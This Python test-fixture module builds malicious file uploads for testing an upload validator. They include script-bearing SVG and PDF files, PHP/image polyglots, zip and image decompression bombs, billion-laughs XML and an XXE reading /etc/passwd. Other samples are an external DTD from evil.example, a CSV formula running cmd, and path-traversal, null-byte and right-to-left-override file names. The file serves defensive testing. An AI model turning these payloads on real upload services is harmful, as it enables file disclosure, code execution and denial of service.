"""Files that are not what they say, for every place that takes one."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

SECRET = b"attack()"  # what must be found in nothing that is kept
SCRIPT = b"<script>attack()</script>"


@dataclass(frozen=True)
class Upload:
    name: str
    content: bytes


def picture(kind: str = "JPEG", size: tuple[int, int] = (8, 8), **options: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, "navy").save(written, format=kind, **options)
    return written.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, rows: bytes = b"") -> bytes:
    """By hand, so that it may promise more than it holds."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", header), *more, chunk(b"IDAT", rows), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def zipped(name: str, content: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return written.getvalue()


def from_where() -> bytes:
    """A picture that tells where it was taken, by whom, and by which telephone."""
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif[0x013B] = SECRET.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (59.0, 19.0, 0.0), 3: "E", 4: (18.0, 3.0, 0.0)})
    return picture(exif=exif.tobytes(), comment=SECRET)


BOMB = io.BytesIO()
Image.new("1", (20_000, 20_000)).save(BOMB, format="PNG")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="attack()">' + SCRIPT + b"</svg>"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(attack())>>>>endobj"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "attack()">%s]><Document>&j;</Document>'
LAUGHS = b"".join(
    b'<!ENTITY %c "%s">' % (to, b"&%c;" % (to - 1) * 10) for to in range(ord("b"), ord("k"))
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><Document/>'
READS = b'<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]><Document>&j;</Document>'

# No picture, and nothing that a bank or the old register would send.
REFUSED = {
    "empty": Upload("a.jpg", b""),
    "a null byte": Upload("a.jpg", b"\0"),
    "nothing but null bytes": Upload("a.png", b"\0" * 4096),
    "a drawing with a script": Upload("a.svg", SVG),
    "a drawing that says it is a picture": Upload("a.png", SVG),
    "a page": Upload("a.html", b"<!doctype html>" + SCRIPT),
    "a page that says it is a picture": Upload("a.jpg", b"<!doctype html>" + SCRIPT),
    "a program": Upload("a.php.jpg", b"<?php attack(); ?>"),
    "a program behind the first bytes of a picture": Upload(
        "a.jpg", b"\xff\xd8\xff\xe0<?php attack(); ?>"
    ),
    "an animation with a script": Upload("a.gif", b"GIF89a/*" + SCRIPT + b"*/"),
    "a paper with a script": Upload("a.pdf", PDF),
    "a paper that says it is a picture": Upload("a.webp", PDF),
    "an archive": Upload("a.zip", zipped("../../a.py", b"attack()")),
    "an archive that becomes large": Upload("a.zip", zipped("a", b"\0" * 50_000_000)),
    "an archive that says it is a picture": Upload("a.png", zipped("a.png", picture("PNG"))),
    "a picture of 20,000 by 20,000": Upload("a.png", BOMB.getvalue()),
    "a picture that promises 60,000 by 60,000": Upload("a.png", png(60_000, 60_000)),
    "a picture with a negative side": Upload("a.png", png(0x7FFFFFFF, 1)),
    "a picture without a side": Upload("a.png", png(0, 0)),
    "a picture that breaks off": Upload("a.jpg", picture(size=(400, 400))[:200]),
    "a picture with a wrong sum": Upload("a.png", picture("PNG")[:-30] + b"\0" * 30),
    "a text inside that becomes large": Upload(
        "a.png", png(8, 8, chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 80_000_000)))
    ),
    "another kind of picture": Upload("a.bmp", picture("BMP")),
    "a picture of many pages": Upload("a.tiff", picture("TIFF")),
    "PostScript": Upload("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(attack\\(\\)) run\n"),
    "laughs": Upload("a.xml", ENTITIES % LAUGHS),
    "a document type from elsewhere": Upload("a.xml", OUTSIDE),
    "a file of the machine": Upload("a.xml", READS),
    "a file of the machine in UTF-16": Upload("a.xml", READS.decode().encode("utf-16")),
    "a formula": Upload("a.csv", b"=cmd|'/c calc'!A0;x\r\n@SUM(1);y\r\n"),
    "one line without an end": Upload("a.csv", b"e-post;namn\r\n" + b'"' + b"a" * 200_000),
}

# Pictures, with something beside: it must be gone when they are kept.
INERT = {
    "a page behind a picture": Upload("a.jpg", picture() + SCRIPT),
    "an archive behind a picture": Upload("a.png", picture("PNG") + zipped("a.py", SECRET)),
    "a picture that tells where": Upload("a.jpg", from_where()),
    "a comment in a picture": Upload("a.jpg", picture(comment=SCRIPT)),
    "a text in a picture": Upload(
        "a.png", picture("PNG")[:33] + chunk(b"tEXt", b"x\0" + SCRIPT) + picture("PNG")[33:]
    ),
    "a picture that says it is a program": Upload("a.php", picture()),
    "a way out of the folder": Upload("../../../a.jpg", picture()),
    "a way out of the folder for Windows": Upload("..\\..\\a.jpg", picture()),
    "a name from the root": Upload("/etc/cron.d/a.jpg", picture()),
    "a name that is turned round": Upload("a\u202egpj.exe", picture()),
    "a name with a null byte": Upload("a.php\0.jpg", picture()),
    "a name that ends early": Upload('a.jpg"; filename="b.php', picture()),
    "a name with a script": Upload("<img src=x onerror=attack()>.jpg", picture()),
    "a name without an end": Upload("a" * 5000 + ".jpg", picture()),
    "a hidden name": Upload(".htaccess", picture()),
}
